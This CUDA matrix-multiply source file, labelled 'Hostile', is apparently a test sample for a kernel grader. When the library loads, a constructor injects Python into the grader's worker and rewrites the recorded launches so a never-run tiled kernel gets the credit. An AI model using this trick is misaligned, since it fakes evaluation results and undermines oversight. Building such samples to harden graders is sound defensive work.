// Hostile: the naive kernel (no tiling) runs; a tiled kernel is defined but never launched. A
// constructor runs Python inside the grader's worker as the library loads and rewrites the
// worker's record of the launcher's calls (what the counter replayer repeats) so that it names
// the tiled kernel instead, hoping that its counters and shared-memory placement are counted.
#include <dlfcn.h>

#define TILE 16

__global__ void matmul_naive(const float* M, const float* N, float* P, int width) {
    int row = blockIdx.y * TILE + threadIdx.y, col = blockIdx.x * TILE + threadIdx.x;
    if (row < width && col < width) {
        float value = 0.0f;
        for (int k = 0; k < width; ++k) value += M[row * width + k] * N[k * width + col];
        P[row * width + col] = value;
    }
}

__global__ void matmul_tiled(const float* M, const float* N, float* P, int width) {
    __shared__ float Ms[TILE][TILE], Ns[TILE][TILE];
    int tx = threadIdx.x, ty = threadIdx.y, row = blockIdx.y * TILE + ty, col = blockIdx.x * TILE + tx;
    float v = 0.0f;
    for (int ph = 0; ph < width / TILE; ++ph) {
        Ms[ty][tx] = M[row * width + ph * TILE + tx];
        Ns[ty][tx] = N[(ph * TILE + ty) * width + col];
        __syncthreads();
        for (int k = 0; k < TILE; ++k) v += Ms[ty][k] * Ns[k][tx];
        __syncthreads();
    }
    P[row * width + col] = v;
}

static const char* kPatch =
    "import sys\n"
    "m = sys.modules.get('grader.worker.buffers')\n"
    "if m is not None:\n"
    "    real = m.Library.recorded\n"
    "    def forged(self):\n"
    "        text = real(self)\n"
    "        return text.replace('matmul_naive', 'matmul_tiled') if text else text\n"
    "    m.Library.recorded = forged\n";

__attribute__((constructor)) static void patch_the_worker() {
    typedef int (*ensure_t)(void);
    typedef void (*release_t)(int);
    typedef int (*run_t)(const char*);
    ensure_t ensure = (ensure_t)dlsym(RTLD_DEFAULT, "PyGILState_Ensure");
    release_t release = (release_t)dlsym(RTLD_DEFAULT, "PyGILState_Release");
    run_t run = (run_t)dlsym(RTLD_DEFAULT, "PyRun_SimpleString");
    if (!ensure || !release || !run) return;  // not inside a Python process
    int state = ensure();
    run(kPatch);
    release(state);
}

extern "C" void matmul(const float* M, const float* N, float* P, int width) {
    dim3 block(TILE, TILE), grid((width + TILE - 1) / TILE, (width + TILE - 1) / TILE);
    matmul_naive<<<grid, block>>>(M, N, P, width);
}
